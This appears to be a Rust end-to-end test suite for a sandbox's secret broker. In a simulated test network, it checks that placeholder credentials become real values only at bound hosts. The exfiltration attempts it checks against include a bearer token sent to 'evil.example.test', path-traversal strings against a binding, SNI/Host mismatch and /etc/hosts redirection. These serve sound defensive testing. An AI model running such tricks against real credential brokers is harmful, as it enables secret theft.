//! The secret broker with a real guest: a test "internet" (namespaces of this test, RFC 5737
//! addresses only) holds HTTPS origins for `api.example.test`, `evil.example.test` and
//! `other.example.test` under their own test root, which the daemon's brokers are told to trust
//! (`--secrets-upstream-roots`), and an authoritative DNS server the sandboxes' DNS filters ask
//! (`--net-dns-upstream`). The guest's own curl, with placeholders in its environment, reaches
//! `api` with the real values at their bindings only, never sees a value in any response, is
//! refused everywhere else, and is spliced (not decrypted) to a host no secret is bound to.
//! Afterwards the values are nowhere in the guest.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use hutch_api::{client::Client, CreateSandbox, ExecBody, SetSecretBody};
use hutch_net::testbed::{World, INET, INET2};
use hutch_testkit::origin::{self, Seen, SeenLog};
use hutch_types::{BrokerDecision, NetworkPolicy, SandboxSpec, SecretBinding, PLACEHOLDER_PREFIX};

use crate::*;

/// The origin no secret is bound to.
const OTHER: &str = "203.0.113.30";
/// The test internet's DNS server (on the internet side of the host namespace's uplink).
const DNS: &str = "198.51.100.2:53";

/// A WebSocket client on the guest's python3 (standard library only): `python3 - HOST KEY
/// TEXT verify|insecure` upgrades `wss://HOST/v1/ws` with `x-api-key: KEY`, prints the status
/// line, the origin's greeting, the echo of TEXT, and whether a 200 KB binary message came
/// back intact.
const WS_CLIENT: &str = r#"
import base64, os, socket, ssl, struct, sys

host, key, text, verify = sys.argv[1:5]
ctx = ssl.create_default_context()
if verify == "insecure":
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
tls = ctx.wrap_socket(socket.create_connection((host, 443), timeout=20), server_hostname=host)
nonce = base64.b64encode(os.urandom(16)).decode()
tls.sendall((f"GET /v1/ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
             f"Connection: Upgrade\r\nSec-WebSocket-Key: {nonce}\r\n"
             f"Sec-WebSocket-Version: 13\r\nx-api-key: {key}\r\n\r\n").encode())
f = tls.makefile("rb")
print(f.readline().decode().strip())
while f.readline() not in (b"\r\n", b""):
    pass

def send(data, opcode):
    n, mask = len(data), os.urandom(4)
    if n < 126:
        head = bytes([0x80 | opcode, 0x80 | n])
    elif n < 65536:
        head = bytes([0x80 | opcode, 0x80 | 126]) + struct.pack(">H", n)
    else:
        head = bytes([0x80 | opcode, 0x80 | 127]) + struct.pack(">Q", n)
    tls.sendall(head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))

def recv():
    data = b""
    while True:
        b0, b1 = f.read(2)
        n = b1 & 0x7f
        if n == 126:
            n = struct.unpack(">H", f.read(2))[0]
        elif n == 127:
            n = struct.unpack(">Q", f.read(8))[0]
        payload = f.read(n)
        if b0 & 0x08:
            continue
        data += payload
        if b0 & 0x80:
            return data

print(recv().decode())
send(text.encode(), 1)
print(recv().decode())
big = bytes(i % 251 for i in range(200000))
send(big, 2)
print("binary echo", "ok" if recv() == big else "differs")
send(b"", 8)
"#;

fn binding(host: &str, at: &str, path: Option<&str>) -> SecretBinding {
    SecretBinding {
        host: host.into(),
        port: 443,
        path: path.map(String::from),
        methods: vec![],
        at: at.parse().expect("location"),
        fetch_only: false,
    }
}

/// The secrets of this case: (name, guest variable, binding), each with a fresh value.
fn secrets() -> Vec<(&'static str, &'static str, SecretBinding, String)> {
    let v = |n: &str| format!("real-{n}-{:016x}", crate::secrets::rand_u64());
    vec![
        (
            "e2e-key",
            "E2E_KEY",
            binding("api.example.test", "header:x-api-key", None),
            v("key"),
        ),
        (
            "e2e-token",
            "E2E_TOKEN",
            binding("api.example.test", "bearer", Some("/v1/**")),
            v("token"),
        ),
        (
            "e2e-git",
            "E2E_GIT",
            SecretBinding {
                fetch_only: true,
                ..binding(
                    "api.example.test",
                    "basic-password",
                    Some("/org/repo.git/**"),
                )
            },
            v("git"),
        ),
        (
            "e2e-query",
            "E2E_QUERY",
            binding("api.example.test", "query:key", None),
            v("query"),
        ),
        (
            "e2e-evil",
            "E2E_EVIL",
            binding("evil.example.test", "header:x-evil-key", None),
            v("evil"),
        ),
    ]
}

/// One curl in the guest: `script` is appended to `curl -sS --max-time 20` and runs under
/// `sh -c` (so `$E2E_*` expand to the placeholders). Returns (curl's exit code, HTTP status,
/// body, stderr).
async fn curl_in(c: &Client, id: &str, script: &str) -> Result<(i32, u16, String, String)> {
    let argv = vec![
        "sh".into(),
        "-c".into(),
        format!("curl -sS --max-time 20 -w '\\n%{{http_code}}' {script}"),
    ];
    let out = c
        .exec(
            id,
            &ExecBody {
                argv,
                ..Default::default()
            },
        )
        .await
        .map_err(|e| format!("exec curl {script}: {e}"))?;
    let (body, status) = out.stdout.rsplit_once('\n').unwrap_or(("", &out.stdout));
    Ok((
        out.exit_code.unwrap_or(-1),
        status.trim().parse().unwrap_or(0),
        body.to_string(),
        out.stderr,
    ))
}

fn b64(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

/// The placeholder of `secret` in the guest's `env` output.
fn placeholder(env: &str, secret: &str) -> Result<String> {
    let var = secrets()
        .into_iter()
        .find(|s| s.0 == secret)
        .map(|s| s.1)
        .ok_or("no such secret")?;
    env.lines()
        .find_map(|l| l.strip_prefix(var)?.strip_prefix('='))
        .filter(|p| p.starts_with(PLACEHOLDER_PREFIX))
        .map(String::from)
        .ok_or_else(|| format!("no placeholder for {var} in {env}").into())
}

/// A bare repository at `bare` holding one commit (README: "seeded").
fn seed_repository(bare: &std::path::Path) -> Result {
    let work = bare.with_extension("work");
    std::fs::create_dir_all(&work)?;
    std::fs::write(work.join("README"), "seeded\n")?;
    let git = |dir: &std::path::Path, args: &[&str]| -> Result {
        let out = std::process::Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.test",
                "-c",
                "init.defaultBranch=main",
            ])
            .arg("-C")
            .arg(dir)
            .args(args)
            .output()?;
        check(
            out.status.success(),
            format!("git {args:?}: {}", String::from_utf8_lossy(&out.stderr)),
        )
    };
    git(&work, &["init", "-q"])?;
    git(&work, &["add", "README"])?;
    git(&work, &["commit", "-qm", "seed"])?;
    git(
        &work,
        &["clone", "-q", "--bare", ".", &bare.display().to_string()],
    )?;
    Ok(())
}

/// What the origins received since `from`.
fn seen_since(seen: &SeenLog, from: usize) -> Vec<Seen> {
    seen.lock().unwrap()[from..].to_vec()
}

/// The test internet of these cases: namespaces (`World::bare(tag)`), the three HTTPS origins
/// (git smart HTTP on `api`'s address, with `git_password`) and the authoritative DNS server,
/// served on the suite's runtime until the world goes.
struct TestInternet {
    world: World,
    dir: tempfile::TempDir,
    /// The test root's PEM file (the daemon's extra upstream roots).
    root: String,
    seen: SeenLog,
}

impl TestInternet {
    fn new(tag: &str, git_password: String) -> Result<TestInternet> {
        let world = World::bare(tag);
        let added = std::process::Command::new("ip")
            .args([
                "-n",
                &world.inet,
                "addr",
                "add",
                &format!("{OTHER}/32"),
                "dev",
                "lo",
            ])
            .output()?;
        check(added.status.success(), "add the third origin's address")?;
        let dir = tempfile::tempdir()?;
        let (tls, _, root) = origin::origin_tls(dir.path());
        let git = Arc::new(origin::GitServer {
            root: dir.path().join("git"),
            password: git_password,
        });
        seed_repository(&git.root.join("org/repo.git"))?;
        let seen: SeenLog = Arc::new(Mutex::new(Vec::new()));
        let (inet, seen_by) = (world.inet.clone(), seen.clone());
        on_rt(async move {
            let tls = Arc::new(tls);
            for addr in [INET, INET2, OTHER] {
                let l = origin::listen_in(&inet, &format!("{addr}:443"));
                let git = (addr == INET).then(|| git.clone());
                origin::serve_origins_with_git(l, Some(tls.clone()), seen_by.clone(), git);
            }
            let names: HashMap<String, std::net::Ipv4Addr> = [
                ("api.example.test", INET),
                ("evil.example.test", INET2),
                ("other.example.test", OTHER),
            ]
            .into_iter()
            .map(|(n, a)| (n.to_string(), a.parse().unwrap()))
            .collect();
            hutch_testkit::serve_dns(&inet, DNS.parse().unwrap(), names);
        });
        Ok(TestInternet {
            world,
            dir,
            root,
            seen,
        })
    }

    /// A daemon on a private home whose sandboxes reach this internet, its DNS and its root.
    fn daemon(&self) -> Daemon {
        Daemon::start_with(
            common::private_home(),
            &[
                "--net-host-netns",
                &self.world.host,
                "--net-dns-upstream",
                DNS,
                "--secrets-upstream-roots",
                &self.root,
            ],
        )
    }
}

/// Stops `daemon` and checks that nothing of it, nor the sandbox namespaces of `ids`, is left.
fn stop_and_check_leaks(mut daemon: Daemon, ids: &[String]) -> Result {
    let home = daemon.home.path().to_path_buf();
    sigterm(&mut daemon);
    let leaks = common::leaks(&home);
    check(leaks.is_empty(), format!("left behind: {leaks:?}"))?;
    let namespaces = std::process::Command::new("ip")
        .args(["netns", "list"])
        .output()?;
    let namespaces = String::from_utf8_lossy(&namespaces.stdout);
    for id in ids {
        check(
            !namespaces.contains(&format!("hutch-{id}")),
            format!("the namespace of {id} is left"),
        )?;
    }
    Ok(())
}

pub fn a_real_guest_reaches_bound_hosts_only_through_the_broker() -> Result {
    let secrets = secrets();
    let git_password = secrets.iter().find(|s| s.0 == "e2e-git").unwrap().3.clone();
    let net = TestInternet::new("sec", git_password)?;
    let daemon = net.daemon();
    let home = daemon.home.path().to_path_buf();
    let client = daemon.client();
    let seen = net.seen.clone();
    let result = on_rt(async move {
        let ran = run_case(&client, home, secrets, seen).await;
        // Whatever happened, nothing of this case may outlive it.
        let destroyed = destroy_all(&client).await;
        let id = ran?;
        destroyed?;
        Ok::<_, Failed>(id)
    });
    let ids: Vec<String> = result.iter().cloned().collect();
    let stopped = stop_and_check_leaks(daemon, &ids);
    result?;
    stopped?;
    let commits = std::process::Command::new("git")
        .arg("-C")
        .arg(net.dir.path().join("git/org/repo.git"))
        .args(["rev-list", "--count", "--all"])
        .output()?;
    check(
        String::from_utf8_lossy(&commits.stdout).trim() == "1",
        "a push reached the repository",
    )
}

async fn run_case(
    c: &Client,
    home: std::path::PathBuf,
    secrets: Vec<(&'static str, &'static str, SecretBinding, String)>,
    seen: SeenLog,
) -> Result<String> {
    for (name, env, b, value) in &secrets {
        let body = SetSecretBody {
            value: value.clone(),
            env: Some(env.to_string()),
            bindings: Some(vec![b.clone()]),
            labels: Default::default(),
            ssh_allowed_host_keys: None,
        };
        c.set_secret(name, &body).await?;
    }
    let value = |name: &str| secrets.iter().find(|s| s.0 == name).unwrap().3.clone();
    let req = CreateSandbox {
        spec: SandboxSpec {
            memory_mib: 256,
            disk_mib: 256,
            network: NetworkPolicy::Open,
            secrets: secrets.iter().map(|s| s.0.to_string()).collect(),
            ..Default::default()
        },
        idempotency_key: None,
    };
    let id = c.create(&req).await?.id;
    let ids = id.clone();
    let id = id.as_str();
    let all_values: Vec<String> = secrets.iter().map(|s| s.3.clone()).collect();
    // Each value raw, and as git's Basic credentials carry it.
    let forbidden: Vec<String> = all_values
        .iter()
        .flat_map(|v| [v.clone(), b64(&format!("x-access-token:{v}"))])
        .collect();
    let clean = |what: &str, text: &str| -> Result {
        for v in &forbidden {
            check(
                !text.contains(v.as_str()),
                format!("{what}: the guest saw a real value: {text}"),
            )?;
        }
        Ok(())
    };

    let env = sh(c, id, "env").await?;
    // Each location: the origin receives the real value, the guest only its placeholder.
    let cases = [
        (
            "header",
            "-H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/echo",
            "x-api-key: ",
            "e2e-key",
        ),
        (
            "bearer",
            "-H \"Authorization: Bearer $E2E_TOKEN\" https://api.example.test/v1/echo",
            "authorization: Bearer ",
            "e2e-token",
        ),
        (
            "basic",
            "-u \"x-access-token:$E2E_GIT\" 'https://api.example.test/org/repo.git/info/refs?service=git-upload-pack'",
            "authorization: Basic ",
            "e2e-git",
        ),
        (
            "query",
            "\"https://api.example.test/v1/q?key=$E2E_QUERY\"",
            "GET /v1/q?key=",
            "e2e-query",
        ),
    ];
    for (what, script, marker, secret) in cases {
        let from = seen.lock().unwrap().len();
        let (rc, status, body, err) = curl_in(c, id, script).await?;
        check(
            rc == 0 && status == 200,
            format!("{what}: curl {rc} status {status}: {err}{body}"),
        )?;
        clean(what, &body)?;
        let ph = placeholder(&env, secret)?;
        let (expect, shown) = if what == "basic" {
            (
                b64(&format!("x-access-token:{}", value(secret))),
                b64(&format!("x-access-token:{ph}")),
            )
        } else {
            (value(secret), ph)
        };
        // The git server behind the basic binding answers only the real password.
        let answered = if what == "basic" {
            body.contains("# service=git-upload-pack")
        } else {
            body.contains(&format!("{marker}{shown}"))
        };
        check(
            answered,
            format!("{what}: the guest's echo lost the placeholder: {body}"),
        )?;
        let got = seen_since(&seen, from);
        check(
            got.len() == 1 && got[0].all().contains(&format!("{marker}{expect}")),
            format!("{what}: the origin did not get the value: {got:?}"),
        )?;
    }

    // A reflecting endpoint quotes the key in its body and a header: scrubbed.
    let from = seen.lock().unwrap().len();
    let (_, status, body, _) = curl_in(
        c,
        id,
        "-D - -H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/reflect",
    )
    .await?;
    check(status == 401, format!("reflect: {status} {body}"))?;
    clean("reflect", &body)?;
    check(
        seen_since(&seen, from)
            .iter()
            .any(|s| s.headers.contains(&value("e2e-key"))),
        "reflect: the origin did not get the value",
    )?;

    // A gzip answer quoting the key (the origin gzips whatever was asked): upstream was
    // asked for identity, the broker gunzipped and scrubbed it, the guest reads the placeholder.
    let key_ph = placeholder(&env, "e2e-key")?;
    let from = seen.lock().unwrap().len();
    let (rc, status, body, err) = curl_in(
        c,
        id,
        "--compressed -H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/gzip",
    )
    .await?;
    check(
        rc == 0 && status == 200 && body.contains(&format!("x-api-key: {key_ph}")),
        format!("gzip: curl {rc} status {status}: {err}{body}"),
    )?;
    clean("gzip", &body)?;
    let got = seen_since(&seen, from);
    check(
        got.len() == 1
            && got[0]
                .headers
                .contains(&format!("x-api-key: {}", value("e2e-key")))
            && got[0].headers.contains("accept-encoding: identity"),
        format!("gzip: the origin got {got:?}"),
    )?;

    // HTTP/2 from the guest: the broker speaks h2 to it (ALPN) and substitutes as over 1.1.
    let from = seen.lock().unwrap().len();
    let out = sh(
        c,
        id,
        "curl -sS --http2 --max-time 20 -o /tmp/h2 -w '%{http_version} %{http_code}\\n' \
         -H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/echo && cat /tmp/h2",
    )
    .await?;
    let (line, body) = out.split_once('\n').unwrap_or((out.as_str(), ""));
    check(
        line == "2 200" && body.contains(&format!("x-api-key: {key_ph}")),
        format!("h2: {out}"),
    )?;
    clean("h2", body)?;
    check(
        seen_since(&seen, from).iter().any(|s| {
            s.headers
                .contains(&format!("x-api-key: {}", value("e2e-key")))
        }),
        "h2: the origin did not get the value",
    )?;

    // WebSocket (a small client on the guest's python3: its curl has no WebSocket): through
    // the broker the upgrade carries the value and the origin's greeting quoting it comes
    // back with the placeholder; spliced to an unbound host it goes as it is.
    for (host, verify, substituted) in [
        ("api.example.test", "verify", true),
        ("other.example.test", "insecure", false),
    ] {
        let from = seen.lock().unwrap().len();
        let out = c
            .exec(
                id,
                &ExecBody {
                    argv: vec![
                        "sh".into(),
                        "-c".into(),
                        format!(
                            "python3 - {host} \"$E2E_KEY\" \"a message quoting $E2E_KEY\" {verify}"
                        ),
                    ],
                    stdin: Some(WS_CLIENT.into()),
                    ..Default::default()
                },
            )
            .await?;
        let want = format!(
            "HTTP/1.1 101 Switching Protocols\nx-api-key: {key_ph}\na message quoting {key_ph}\nbinary echo ok\n"
        );
        check(
            out.exit_code == Some(0) && out.stdout == want,
            format!(
                "WebSocket to {host}: {:?}\n{}{}",
                out.exit_code, out.stdout, out.stderr
            ),
        )?;
        let got = seen_since(&seen, from);
        let sent = if substituted {
            value("e2e-key")
        } else {
            key_ph.clone()
        };
        check(
            got.len() == 1 && got[0].headers.contains(&format!("x-api-key: {sent}")),
            format!("WebSocket to {host}: the origin got {got:?}"),
        )?;
    }

    // Refusals: none of them lets a value out.
    let mut refusals = vec![
        (
            "to evil",
            "-H \"Authorization: Bearer $E2E_TOKEN\" https://evil.example.test/v1/echo",
            403,
        ),
        (
            "SNI != Host",
            "-H 'Host: evil.example.test' -H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/echo",
            421,
        ),
    ];
    // Path tricks against the token's /v1/** binding.
    let tricks: Vec<String> = [
        "/v1/../admin",
        "/v1/%2e%2e/admin",
        "/v1;x/../../admin",
        "//v1/..//admin",
        "/v10/x",
    ]
    .iter()
    .map(|p| {
        format!(
            "--path-as-is -H \"Authorization: Bearer $E2E_TOKEN\" 'https://api.example.test{p}'"
        )
    })
    .collect();
    refusals.extend(tricks.iter().map(|t| ("path trick", t.as_str(), 403)));
    for (what, script, want) in refusals {
        let from = seen.lock().unwrap().len();
        let (_, status, body, err) = curl_in(c, id, script).await?;
        check(status == want, format!("{what}: {status} {err}{body}"))?;
        clean(what, &body)?;
        for s in seen_since(&seen, from) {
            clean(&format!("{what} (origin)"), &s.all())?;
        }
    }
    let log = c.secret_log(id).await?;
    check(
        log.iter().any(|e| {
            e.decision == BrokerDecision::Violation
                && e.secret == "e2e-token"
                && e.host == "evil.example.test"
        }),
        format!("no violation recorded: {log:?}"),
    )?;

    // /etc/hosts sends api.example.test to evil's address: no value goes there.
    sh(
        c,
        id,
        &format!("cp /etc/hosts /etc/hosts.orig && echo '{INET2} api.example.test' >> /etc/hosts"),
    )
    .await?;
    let from = seen.lock().unwrap().len();
    let (_, status, body, _) = curl_in(
        c,
        id,
        "-H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/echo",
    )
    .await?;
    sh(c, id, "mv /etc/hosts.orig /etc/hosts").await?;
    check(status == 403, format!("/etc/hosts: {status} {body}"))?;
    clean("/etc/hosts", &body)?;
    for s in seen_since(&seen, from) {
        clean("/etc/hosts (origin)", &s.all())?;
    }

    // A placeholder in User-Agent is never substituted.
    let from = seen.lock().unwrap().len();
    let (_, _, body, _) =
        curl_in(c, id, "-A \"$E2E_KEY\" https://api.example.test/v1/echo").await?;
    clean("user-agent", &body)?;
    for s in seen_since(&seen, from) {
        clean("user-agent (origin)", &s.all())?;
    }

    // An unbound host is spliced: the guest sees the origin's own certificate.
    let (_, _, _, verbose) = curl_in(c, id, "-kv https://other.example.test/").await?;
    check(
        verbose.contains("test internet root"),
        format!("other.example.test was not spliced: {verbose}"),
    )?;
    let (_, _, _, verbose) = curl_in(c, id, "-v https://api.example.test/v1/echo").await?;
    check(
        verbose.contains("Hutch sandbox"),
        format!("api.example.test was not terminated by the broker: {verbose}"),
    )?;

    // git through git-credential-hutch: the clone gets the placeholder from the helper, the
    // broker puts the value in (the server checks it), a push is refused (fetch-only binding).
    let cloned = sh(
        c,
        id,
        "cd /tmp && GIT_TERMINAL_PROMPT=0 git clone -q https://api.example.test/org/repo.git r 2>&1 && cat r/README",
    )
    .await?;
    check(cloned == "seeded", format!("git clone: {cloned}"))?;
    let from = seen.lock().unwrap().len();
    let push = c
        .exec(
            id,
            &ExecBody {
                argv: vec![
                    "sh".into(),
                    "-c".into(),
                    "cd /tmp/r && echo more > f && git add f && \
                     git -c user.name=g -c user.email=g@example.test commit -qm more && \
                     GIT_TERMINAL_PROMPT=0 git push -q origin HEAD"
                        .into(),
                ],
                ..Default::default()
            },
        )
        .await?;
    check(
        push.exit_code != Some(0),
        format!("a push went through a fetch-only binding: {}", push.stderr),
    )?;
    clean("git push", &push.stderr)?;
    for s in seen_since(&seen, from) {
        clean("git push (origin)", &s.all())?;
    }

    // The values are nowhere in the guest: env, every process's environ, its disk, console.
    let console = c.console(id).await?;
    clean("console", &String::from_utf8_lossy(&console))?;
    // The values come on stdin into unexported shell variables: in no argv, env or file.
    let search = ExecBody {
        argv: vec![
            "sh".into(),
            "-c".into(),
            "read -r a; read -r b; read -r c; read -r d; read -r e; \
             set -- -e \"$a\" -e \"$b\" -e \"$c\" -e \"$d\" -e \"$e\"; \
             env | grep -cF \"$@\"; \
             for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null | grep -cF \"$@\"; \
             grep -rlsF \"$@\" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev | wc -l"
                .into(),
        ],
        stdin: Some(all_values.iter().map(|v| format!("{v}\n")).collect()),
        ..Default::default()
    };
    let found = c.exec(id, &search).await?.stdout;
    check(
        found.split_whitespace().collect::<Vec<_>>() == ["0", "0", "0"],
        format!("a value was found in the guest: {found}"),
    )?;

    // `hutch secret log` lists what happened, never a value or a placeholder.
    let out = tokio::process::Command::from(hutch(&home))
        .args(["secret", "log", id])
        .output()
        .await?;
    let printed = String::from_utf8_lossy(&out.stdout).into_owned();
    eprintln!("hutch secret log {id}:\n{printed}");
    check(out.status.success(), "hutch secret log failed")?;
    clean("secret log", &printed)?;
    check(
        !printed.contains(PLACEHOLDER_PREFIX),
        "secret log prints a placeholder",
    )?;
    check(
        printed.contains("substituted") && printed.contains("violation"),
        format!("secret log: {printed}"),
    )?;
    c.destroy(id).await?;
    Ok(ids)
}

/// Where the guest agent installs the sandbox's broker CA.
const GUEST_CA: &str = "/usr/local/share/ca-certificates/hutch-sandbox.crt";

pub fn clones_and_pool_hand_outs_get_their_own_ca_and_placeholders() -> Result {
    let net = TestInternet::new("scl", "unused".into())?;
    let daemon = net.daemon();
    let home = daemon.home.path().to_path_buf();
    let client = daemon.client();
    let seen = net.seen.clone();
    let result = on_rt(async move {
        let ran = clone_case(&client, &home, seen).await;
        let destroyed = destroy_all(&client).await;
        let _ = client.set_pool(CLONE_TEMPLATE, 0).await;
        let removed = client.remove_template(CLONE_TEMPLATE).await;
        let ids = ran?;
        destroyed?;
        removed.map_err(|e| format!("template rm: {e}"))?;
        Ok::<_, Failed>(ids)
    });
    let ids: Vec<String> = result.iter().flatten().cloned().collect();
    let stopped = stop_and_check_leaks(daemon, &ids);
    result?;
    stopped
}

/// The template of the clone case.
const CLONE_TEMPLATE: &str = "sec-tpl";

/// Two clones of one template and a pooled clone handed out, each with a secret: each has its
/// own placeholder and CA, and its own broker substitutes the value for it. Returns their ids.
async fn clone_case(c: &Client, home: &std::path::Path, seen: SeenLog) -> Result<Vec<String>> {
    let value = format!("real-clone-{:016x}", crate::secrets::rand_u64());
    c.set_secret(
        "clone-key",
        &SetSecretBody {
            value: value.clone(),
            env: Some("CLONE_KEY".into()),
            bindings: Some(vec![binding("api.example.test", "header:x-api-key", None)]),
            labels: Default::default(),
            ssh_allowed_host_keys: None,
        },
    )
    .await?;
    c.create_template(&hutch_types::TemplateSpec {
        name: CLONE_TEMPLATE.into(),
        image: "default".into(),
        cpus: 1,
        memory_mib: 256,
        disk_mib: 256,
        provision: None,
        network: NetworkPolicy::None,
    })
    .await
    .map_err(|e| format!("template create: {e}"))?;
    let from_template = CreateSandbox {
        spec: SandboxSpec {
            template: Some(CLONE_TEMPLATE.into()),
            network: NetworkPolicy::Open,
            secrets: vec!["clone-key".into()],
            ..Default::default()
        },
        idempotency_key: None,
    };
    // (id, placeholder, CA) of each clone, each checked through its own broker.
    let mut clones: Vec<(String, String, String)> = Vec::new();
    let mut check_clone = async |id: String| -> Result {
        let ph = sh(c, &id, "printf %s \"$CLONE_KEY\"").await?;
        check(
            ph.starts_with(PLACEHOLDER_PREFIX),
            format!("{id}: CLONE_KEY={ph}"),
        )?;
        let ca = sh(c, &id, &format!("cat {GUEST_CA}")).await?;
        check(
            ca.contains("BEGIN CERTIFICATE"),
            format!("{id}: no CA: {ca}"),
        )?;
        let from = seen.lock().unwrap().len();
        let (rc, status, body, err) = curl_in(
            c,
            &id,
            "-H \"x-api-key: $CLONE_KEY\" https://api.example.test/v1/echo",
        )
        .await?;
        check(
            rc == 0 && status == 200 && body.contains(&format!("x-api-key: {ph}")),
            format!("{id}: curl {rc} status {status}: {err}{body}"),
        )?;
        check(
            !body.contains(&value),
            format!("{id}: the guest saw the value"),
        )?;
        let got = seen_since(&seen, from);
        check(
            got.len() == 1 && got[0].headers.contains(&format!("x-api-key: {value}")),
            format!("{id}: the origin got {got:?}"),
        )?;
        clones.push((id, ph, ca));
        Ok(())
    };
    for _ in 0..2 {
        let id = c.create(&from_template).await?.id;
        check_clone(id).await?;
    }
    // A pool of 1: its clone waits restored (no secrets yet); a create with the secret hands
    // it out, with a CA and placeholder minted then.
    c.set_pool(CLONE_TEMPLATE, 1)
        .await
        .map_err(|e| format!("pool: {e}"))?;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    let pooled = loop {
        let ready = c
            .templates()
            .await?
            .iter()
            .find(|t| t.spec.name == CLONE_TEMPLATE)
            .map_or(0, |t| t.pool_ready);
        let pooled = crate::templates::unowned_run_dirs(c, home).await?;
        if ready == 1 && pooled.len() == 1 {
            break pooled;
        }
        check(
            std::time::Instant::now() < deadline,
            format!("the pool holds {pooled:?}"),
        )?;
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    };
    let handed = c.create(&from_template).await?.id;
    check(
        pooled.contains(&handed),
        format!("{handed} is not the pooled {pooled:?}"),
    )?;
    check_clone(handed).await?;
    for (i, a) in clones.iter().enumerate() {
        for b in &clones[i + 1..] {
            check(
                a.1 != b.1,
                format!("{} and {} share a placeholder", a.0, b.0),
            )?;
            check(a.2 != b.2, format!("{} and {} share a CA", a.0, b.0))?;
        }
    }
    c.set_pool(CLONE_TEMPLATE, 0)
        .await
        .map_err(|e| format!("pool: {e}"))?;
    Ok(clones.into_iter().map(|(id, _, _)| id).collect())
}
